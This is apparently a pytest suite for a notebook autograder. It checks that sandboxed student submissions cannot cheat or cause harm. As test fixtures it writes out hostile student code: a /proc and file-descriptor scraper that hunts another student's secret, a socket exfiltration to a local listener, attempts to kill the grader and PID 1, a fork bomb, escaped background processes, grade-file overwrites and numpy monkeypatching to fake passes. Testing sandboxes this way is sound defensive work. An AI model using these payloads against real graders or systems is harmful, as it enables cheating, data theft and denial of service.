"""The grader: a class graded student by student; hostile answers fail alone and reach nothing.

One grading run over a class built here with nbformat: correct, stub and partly wrong
students, and one student for each attack. Every other student must still get their right
grade; nothing outside OUT may change; the network, the process table, the other students'
jobs, SciPy and the course must stay out of reach. The sandbox tests need bubblewrap (which
``make test`` installs); without it they skip loudly, and fail under ``CI=true``.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import shutil
import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest

import course_lib
from course_lib.grading import isolation
from course_lib.grading.grader import COURSE_SEED, grade
from tests.grading_class import (
    BWRAP,
    GOOD_AXIS,
    GOOD_SOFTMAX,
    STUB,
    WHOLE_BATCH,
    needs_bwrap,
    notebook,
)
from tests.grading_class import rows as _rows

PACKAGE = Path(course_lib.__file__).parent
REPO = PACKAGE.parent
MARK = "MARK-7f3a"  # names the processes that attacks leave behind

SECRET = "SECRET-OF-ALICE-4409"  # in one student's code; no other student may see it


def test_bubblewrap_is_used_under_ci() -> None:
    if os.environ.get("CI") and not BWRAP:
        pytest.fail("CI must grade under bubblewrap: " + isolation.choose("auto").describe())
    assert isolation.choose("auto").mode in ("bwrap", "basic")


def _digest(folder: Path) -> str:
    h = hashlib.sha256()
    for p in sorted(folder.rglob("*")):
        if p.is_file() and "__pycache__" not in p.parts:
            h.update(str(p).encode())
            h.update(p.read_bytes())
    return h.hexdigest()


class Listener:
    """A TCP server on 127.0.0.1 that records every byte it receives."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.connections = 0
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.settimeout(1)
            try:
                while data := conn.recv(65536):
                    self.received.append(data)
            except OSError:
                pass
            conn.close()

    def close(self) -> None:
        self.stop.set()
        self.thread.join()
        self.sock.close()


def _attacks(out: Path, port: int) -> dict[str, dict[str, str]]:
    loop = "def my_softmax(x, axis=-1):\n    while True:\n        pass\n"
    stubborn = ("import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
                "def my_softmax(x, axis=-1):\n    while True:\n        pass\n")
    drain = f'''
import os, sys, select
found = []
for fd in range(0, 1024):
    try:
        os.set_blocking(fd, False)
        if select.select([fd], [], [], 0)[0]:
            found.append(os.read(fd, 1 << 20))
    except OSError:
        pass
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        for part in ("cmdline", "environ"):
            try:
                found.append(open(f"/proc/{{pid}}/{{part}}", "rb").read())
            except OSError:
                pass
blob = b" ".join(found)
print("SAW-SECRET" if "{SECRET[:7]}".encode() + b"-OF-ALICE" in blob else "saw nothing")
print("fds open:", sorted(int(f) for f in os.listdir("/proc/self/fd")))
''' + STUB
    undo = f'''
import sys
sys.meta_path[:] = [f for f in sys.meta_path if "Blocker" not in type(f).__name__]
for p in {sorted({str(Path(p)) for p in sys.path if "site-packages" in p} | {str(REPO)})!r}:
    sys.path.append(p)
found = []
for name in ("scipy", "course_lib", "sklearn"):
    try:
        __import__(name)
        found.append(name)
    except Exception as exc:
        print(name, "unavailable:", type(exc).__name__)
try:
    print(open({str(REPO / "solutions" / "ex03_softmax.ipynb")!r}).read()[:50])
    found.append("solutions")
except OSError as exc:
    print("solutions unreadable:", type(exc).__name__)
print("FOUND", found)
from scipy.special import softmax as my_softmax
'''
    network = f'''
import socket
try:
    s = socket.create_connection(("127.0.0.1", {port}), timeout=2)
    s.sendall(b"stolen: every case")
    s.close()
    print("NETWORK-OPEN")
except OSError as exc:
    print("network refused:", type(exc).__name__)
''' + GOOD_SOFTMAX
    escape = f'''
import os, time
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv("/bin/sleep", ["sleep", "47.{MARK[-4:]}"])
        os._exit(0)
''' + GOOD_SOFTMAX
    fork_bomb = '''
import os
children = 0
try:
    for _ in range(500):
        if os.fork() == 0:
            import time
            time.sleep(30)
            os._exit(0)
        children += 1
except OSError as exc:
    print("fork refused after", children, type(exc).__name__)
''' + GOOD_SOFTMAX
    return {
        "alice": {"softmax": f"# {SECRET}\n" + GOOD_SOFTMAX, "softmax_axis": GOOD_AXIS},
        "stub": {"softmax": STUB, "softmax_axis": GOOD_AXIS},
        "partly_wrong": {"softmax": GOOD_SOFTMAX, "softmax_axis": WHOLE_BATCH},
        "loop_in_function": {"softmax": loop, "softmax_axis": GOOD_AXIS},
        "loop_that_eats_the_alarm": {"softmax": stubborn, "softmax_axis": GOOD_AXIS},
        "loop_at_definition": {"softmax": "while True:\n    pass", "softmax_axis": GOOD_AXIS},
        "memory_bomb": {"softmax": "junk = np.ones(10**11)\n" + GOOD_SOFTMAX,
                        "softmax_axis": GOOD_AXIS},
        "os_exit": {"softmax": GOOD_SOFTMAX, "softmax_axis": "import os\nos._exit(0)"},
        "fake_results": {"softmax": 'print(\'{"id": "softmax", "attempts": []}\')\n'
                         'print(\'{"score": 9, "tests": []}\')\n' + STUB,
                         "softmax_axis": WHOLE_BATCH},
        "patches_numpy": {"softmax": "np.allclose = lambda *a, **k: True\n"
                          "np.array_equal = lambda *a, **k: True\n"
                          "np.isclose = lambda *a, **k: True\n"
                          "def my_softmax(x, axis=-1):\n    return np.zeros(np.shape(x))\n",
                          "softmax_axis": WHOLE_BATCH},
        "writes_files": {"softmax": (
            "import pathlib\n"
            f"targets = [pathlib.Path({str(out)!r}) / 'alice' / 'results.json',\n"
            f"           pathlib.Path({str(out)!r}) / 'grades.csv',\n"
            f"           pathlib.Path({str(PACKAGE)!r}) / 'functions.py',\n"
            "           pathlib.Path('/tmp/written-by-a-student')]\n"
            "for t in targets:\n"
            "    try:\n"
            "        t.parent.mkdir(parents=True, exist_ok=True)\n"
            "        t.write_text('{\"score\": 100}')\n"
            "        print('WROTE', t)\n"
            "    except OSError as exc:\n"
            "        print('refused', type(exc).__name__)\n" + STUB),
            "softmax_axis": WHOLE_BATCH},
        "imports_reference": {"softmax": "from course_lib import softmax as my_softmax",
                              "softmax_axis": "from scipy.special import softmax\n"
                                              "my_softmax_axis = softmax"},
        "undoes_import_guards": {"softmax": undo, "softmax_axis": GOOD_AXIS},
        "kills_the_grader": {"softmax": "import os, signal\n"
                             "for pid in (os.getppid(), 1):\n"
                             "    try:\n        os.kill(pid, signal.SIGKILL)\n"
                             "    except OSError:\n        pass\n" + STUB,
                             "softmax_axis": GOOD_AXIS},
        "drains_descriptors": {"softmax": drain, "softmax_axis": GOOD_AXIS},
        "calls_home": {"softmax": network, "softmax_axis": GOOD_AXIS},
        "leaves_processes": {"softmax": escape, "softmax_axis": GOOD_AXIS},
        "fork_bomb": {"softmax": fork_bomb, "softmax_axis": GOOD_AXIS},
        "syntax_error": {"softmax": "def my_softmax(x, axis=-1)\n    return x",
                         "softmax_axis": GOOD_AXIS},
    }


def _leftovers() -> list[str]:
    found = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                cmd = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode()
            except OSError:
                continue
            if MARK[-4:] in cmd and "pytest" not in cmd:
                found.append(cmd)
    return found


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    subs = tmp_path_factory.mktemp("subs")
    out = tmp_path_factory.mktemp("out")
    listener = Listener()
    for name, cells in _attacks(out, listener.port).items():
        notebook(subs / name / "ex03_softmax.ipynb", cells,
                 extra=["raise SystemExit('non-answer cells never run')"])
    (subs / "corrupted").mkdir()
    (subs / "corrupted" / "ex03.ipynb").write_text('{"cells": [ this is not json')
    (subs / "empty").mkdir()
    (subs / "empty" / "ex03.ipynb").write_text("")
    before = _digest(PACKAGE)
    try:
        results = grade([subs], out, jobs=2, timeout=2, progress=False)
    finally:
        listener.close()
    return {r.name: r for r in results}, out, before, listener


def _test(results, name, ex_id):
    return next(t for t in results[name].results_json()["tests"]
                if t["name"].split(":")[0] == ex_id)


def test_correct_student_scores_full(graded) -> None:
    results, out, _, _ = graded
    data = json.loads((out / "alice" / "results.json").read_text())
    assert data["score"] == 2.0
    assert [t["status"] for t in data["tests"]] == ["passed", "passed"]
    assert {"score", "output", "tests"} <= set(data)
    assert {"name", "score", "max_score", "status", "output", "visibility"} <= set(data["tests"][0])
    assert f"seed {COURSE_SEED}" in data["output"]
    feedback = (out / "alice" / "feedback.md").read_text()
    assert "Total: **2 / 2**" in feedback and "ex03_softmax.ipynb" in feedback


def test_grades_csv_has_a_row_per_student(graded) -> None:
    results, out, _, _ = graded
    with (out / "grades.csv").open() as f:
        rows = list(csv.DictReader(f))
    assert list(rows[0]) == ["student", "softmax", "softmax_axis", "total"]
    by_name = {r["student"]: r for r in rows}
    assert len(rows) == len(results) == 21
    assert by_name["alice"]["total"] == "2"
    assert by_name["partly_wrong"]["softmax"] == "1"
    assert not list(out.glob(".tmp-*")) and not list(out.glob("*/.tmp-*"))


def test_stub_and_partial(graded) -> None:
    results, _, _, _ = graded
    assert "not implemented yet" in _test(results, "stub", "softmax")["output"]
    assert _test(results, "stub", "softmax_axis")["status"] == "passed"
    t = _test(results, "partly_wrong", "softmax_axis")
    assert t["status"] == "failed" and t["score"] < 1
    assert _test(results, "partly_wrong", "softmax")["status"] == "passed"


@pytest.mark.parametrize("name", ["loop_in_function", "loop_at_definition", "memory_bomb"])
def test_runaway_code_fails_alone(graded, name) -> None:
    results, _, _, _ = graded
    assert _test(results, name, "softmax")["score"] == 0
    assert _test(results, name, "softmax_axis")["status"] == "passed", results[name].output


def test_a_loop_that_ignores_the_alarm_is_stopped_by_the_wall_clock(graded) -> None:
    results, _, _, _ = graded
    assert _test(results, "loop_that_eats_the_alarm", "softmax")["score"] == 0
    out = results["loop_that_eats_the_alarm"].output
    assert "wall-clock" in out or "CPU time" in out


def test_os_exit_loses_only_what_had_not_run(graded) -> None:
    results, _, _, _ = graded
    msg = _test(results, "os_exit", "softmax_axis")["output"]
    assert _test(results, "os_exit", "softmax_axis")["score"] == 0
    assert "no function named my_softmax_axis" in msg or "no result" in msg


def test_printed_fake_results_are_just_output(graded) -> None:
    results, _, _, _ = graded
    data = results["fake_results"].results_json()
    assert _test(results, "fake_results", "softmax")["score"] == 0  # the stub
    assert data["score"] < 1
    assert '"score": 9' in data["output"]  # shown as what it printed, nothing more


def test_patching_numpy_in_the_child_changes_nothing(graded) -> None:
    results, _, _, _ = graded
    assert _test(results, "patches_numpy", "softmax")["score"] == 0
    assert _test(results, "patches_numpy", "softmax_axis")["status"] == "failed"


def test_writing_files_changes_nothing_outside(graded) -> None:
    results, out, before, _ = graded
    assert _digest(PACKAGE) == before
    assert json.loads((out / "alice" / "results.json").read_text())["score"] == 2.0
    assert "WROTE" not in results["writes_files"].output
    assert not Path("/tmp/written-by-a-student").exists()


def test_reference_implementations_cannot_be_imported(graded) -> None:
    results, _, _, _ = graded
    for ex_id in ("softmax", "softmax_axis"):
        msg = _test(results, "imports_reference", ex_id)["output"]
        assert _test(results, "imports_reference", ex_id)["score"] == 0
        assert "ModuleNotFoundError" in msg or "ImportError" in msg, msg


@needs_bwrap
def test_undoing_import_guards_still_finds_no_scipy_course_or_solutions(graded) -> None:
    results, _, _, _ = graded
    out = results["undoes_import_guards"].output
    assert "FOUND []" in out, out
    assert _test(results, "undoes_import_guards", "softmax")["score"] == 0
    assert "ModuleNotFoundError" in _test(results, "undoes_import_guards", "softmax")["output"]


def test_the_grader_cannot_be_signalled(graded) -> None:
    results, _, _, _ = graded  # had the kill worked, this test session would have died
    assert _test(results, "kills_the_grader", "softmax_axis")["status"] == "passed"


@needs_bwrap
def test_no_descriptor_or_process_shows_another_students_work(graded) -> None:
    results, _, _, _ = graded
    out = results["drains_descriptors"].output
    assert "saw nothing" in out and "SAW-SECRET" not in out, out
    assert SECRET not in json.dumps(results["drains_descriptors"].results_json())
    fds = out.split("fds open:")[1].splitlines()[0]
    assert len(json.loads(fds)) == 5, fds  # stdin, stdout, stderr, the listing, results


@needs_bwrap
def test_the_network_is_unreachable(graded) -> None:
    results, _, _, listener = graded
    assert listener.connections == 0 and listener.received == []
    assert "NETWORK-OPEN" not in results["calls_home"].output
    assert "network refused" in results["calls_home"].output
    assert _test(results, "calls_home", "softmax")["status"] == "passed"


@needs_bwrap
def test_no_process_outlives_the_run(graded) -> None:
    results, _, _, _ = graded
    assert _test(results, "leaves_processes", "softmax")["status"] == "passed"
    assert _leftovers() == []


@needs_bwrap
def test_a_fork_bomb_meets_the_process_limit(graded) -> None:
    results, _, _, _ = graded
    assert "fork refused after" in results["fork_bomb"].output
    assert _test(results, "fork_bomb", "softmax")["status"] == "passed"
    assert _leftovers() == []


def test_syntax_errors_and_corrupted_notebooks_are_reported(graded) -> None:
    results, out, _, _ = graded
    msg = _test(results, "syntax_error", "softmax")["output"]
    assert "SyntaxError" in msg and "line 1 of the cell" in msg
    assert _test(results, "syntax_error", "softmax_axis")["status"] == "passed"
    for name in ("corrupted", "empty"):
        data = json.loads((out / name / "results.json").read_text())
        assert data["score"] == 0 and "could not be read as a notebook" in data["output"]


# --- the class as a unit ------------------------------------------------------------------


def test_hostile_and_colliding_names_stay_inside_out(tmp_path) -> None:
    subs, other = tmp_path / "subs", tmp_path / "other"
    for path in [subs / "...ipynb", subs / "grades.csv.ipynb", subs / "ex03_softmax.ipynb",
                 other / "ex03_softmax.ipynb", subs / "EX03_SOFTMAX.ipynb",
                 subs / "bad\nname.ipynb", subs / ".ipynb_checkpoints" / "x.ipynb"]:
        notebook(path, {"softmax": GOOD_SOFTMAX})
    out = tmp_path / "deep" / "out"
    results = grade([subs, other], out, timeout=5, progress=False)
    names = sorted(r.name for r in results)
    assert names == sorted(["student", "grades.csv-student", "EX03_SOFTMAX", "ex03_softmax-2",
                            "ex03_softmax-3", "bad_name"]), names
    assert sorted(p.name for p in tmp_path.iterdir()) == ["deep", "other", "subs"]
    assert sorted(p.name for p in (tmp_path / "deep").iterdir()) == ["out"]
    assert (out / "grades.csv").is_file()
    assert all((out / n / "results.json").is_file() for n in names)
    assert not list(out.rglob(".tmp-*"))


def test_a_regrade_replaces_one_row_and_keeps_the_class(tmp_path) -> None:
    subs = tmp_path / "subs"
    for name in ("ann", "ben", "cy"):
        notebook(subs / name / "ex03_softmax.ipynb",
                 {"softmax": GOOD_SOFTMAX, "softmax_axis": WHOLE_BATCH})
    out = tmp_path / "out"
    grade([subs], out, timeout=5, progress=False)
    first = (out / "grades.csv").read_text()
    ann_before = (out / "ann" / "results.json").read_text()
    notebook(subs / "ben" / "ex03_softmax.ipynb",  # ben fixes his answer
             {"softmax": GOOD_SOFTMAX, "softmax_axis": GOOD_AXIS})
    grade([subs], out, only=["ben"], timeout=5, progress=False)
    rows = _rows(out / "grades.csv")
    assert sorted(rows) == ["ann", "ben", "cy"]
    assert rows["ben"]["total"] == "2"
    old = {r["student"]: r for r in csv.DictReader(first.splitlines())}
    assert rows["ann"] == old["ann"] and rows["cy"] == old["cy"]
    assert (out / "ann" / "results.json").read_text() == ann_before
    solo = tmp_path / "late"  # a folder holding just the late student
    notebook(solo / "dee" / "ex03_softmax.ipynb", {"softmax": STUB})
    grade([solo], out, timeout=5, progress=False)
    rows = _rows(out / "grades.csv")
    assert sorted(rows) == ["ann", "ben", "cy", "dee"]
    assert rows["dee"]["softmax"] == "0" and rows["dee"]["softmax_axis"] == "0"
    with pytest.raises(ValueError, match="no student named 'zed'"):
        grade([subs], out, only=["zed"], progress=False)


def _cli(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-W", "error", "-m", "course_lib.grade", *args],
                          capture_output=True, text=True, cwd=cwd, stdin=subprocess.DEVNULL)


def test_cli_is_reproducible_quiet_off_a_terminal_and_warning_free(tmp_path) -> None:
    subs = tmp_path / "subs"
    for i, src in enumerate([GOOD_SOFTMAX, WHOLE_BATCH.replace("_axis", ""), STUB]):
        notebook(subs / f"s{i}.ipynb", {"softmax": src})
    runs = []
    for k in (1, 2):
        proc = _cli(str(subs), "--out", str(tmp_path / f"out{k}"), "--jobs", "2")
        assert proc.returncode == 0, proc.stderr
        assert "\r" not in proc.stderr and "Warning" not in proc.stderr, proc.stderr
        assert proc.stdout.count("\n") == 1 and "graded 3 student(s)" in proc.stdout
        runs.append([(tmp_path / f"out{k}" / n / "results.json").read_text()
                     for n in ("s0", "s1", "s2")])
    assert runs[0] == runs[1]  # no --seed: the course's seed, the same grades
    other = _cli(str(subs), "--out", str(tmp_path / "out3"), "--seed", "5")
    assert other.returncode == 0 and "seed 5" in (tmp_path / "out3" / "s0" / "results.json"
                                                   ).read_text()
    bad = _cli(str(tmp_path / "none"), "--out", str(tmp_path / "o4"))
    assert bad.returncode == 2 and "no such file or folder" in bad.stderr
    (tmp_path / "empty").mkdir()
    assert _cli(str(tmp_path / "empty"), "--out", str(tmp_path / "o5")).returncode == 2


def test_a_foreign_grades_csv_is_never_overwritten(tmp_path) -> None:
    notebook(tmp_path / "subs" / "a.ipynb", {"softmax": GOOD_SOFTMAX})
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "grades.csv").write_text("name,grade\nx,10\n")
    with pytest.raises(ValueError, match="not a grade sheet"):
        grade([tmp_path / "subs"], tmp_path / "out", progress=False)
    assert (tmp_path / "out" / "grades.csv").read_text() == "name,grade\nx,10\n"


def test_one_student_for_gradescope(tmp_path) -> None:
    notebook(tmp_path / "sub" / "ex03_softmax.ipynb", {"softmax": GOOD_SOFTMAX})
    notebook(tmp_path / "sub" / "extra" / "ex04.ipynb", {"softmax_axis": GOOD_AXIS})
    results = grade([tmp_path / "sub"], tmp_path / "out", student="submission",
                    exercises=["softmax", "softmax_axis", "logsumexp"], progress=False)
    assert [r.name for r in results] == ["submission"]
    data = json.loads((tmp_path / "out" / "submission" / "results.json").read_text())
    assert [t["score"] for t in data["tests"]] == [1.0, 1.0, 0.0]
    assert "no answer found" in data["tests"][2]["output"]


def test_basic_isolation_is_announced(tmp_path) -> None:
    notebook(tmp_path / "subs" / "a.ipynb", {"softmax": GOOD_SOFTMAX})
    proc = _cli(str(tmp_path / "subs"), "--out", str(tmp_path / "out"), "--isolation", "basic")
    assert proc.returncode == 0, proc.stderr
    assert "WARNING: isolation: BASIC" in proc.stderr
    data = json.loads((tmp_path / "out" / "a" / "results.json").read_text())
    assert data["score"] == 1.0 and "BASIC" in data["output"]


def test_bwrap_is_found_where_make_installs_it() -> None:
    if shutil.which("bwrap") is None:
        pytest.skip("LOUD SKIP: bwrap is not installed; the grader runs with basic isolation")
    assert isolation.choose("bwrap").mode == "bwrap"


def test_a_grader_failure_on_one_student_loses_no_one_else(tmp_path, monkeypatch, capsys) -> None:
    from course_lib.grading import grader

    real = grader.assess

    def fragile(ex_id, cases, attempts):
        if any(a.output is not None and a.output.size and float(a.output.flat[0]) == 0.125
               for a in attempts):
            raise RuntimeError("boom")
        return real(ex_id, cases, attempts)

    monkeypatch.setattr(grader, "assess", fragile)
    notebook(tmp_path / "subs" / "good.ipynb", {"softmax": GOOD_SOFTMAX})
    notebook(tmp_path / "subs" / "zeros.ipynb",
             {"softmax": "def my_softmax(x, axis=-1):\n    return np.full(np.shape(x), 0.125)\n"})
    results = {r.name: r for r in grade([tmp_path / "subs"], tmp_path / "out", progress=False)}
    assert results["good"].total == 1.0
    assert "grading failed: RuntimeError: boom" in results["zeros"].output
    report = capsys.readouterr().err  # the run report names the student and the failure
    assert "zeros:\n- grader failure: grading failed: RuntimeError: boom" in report
    assert sorted(_rows(tmp_path / "out" / "grades.csv")) == ["good", "zeros"]
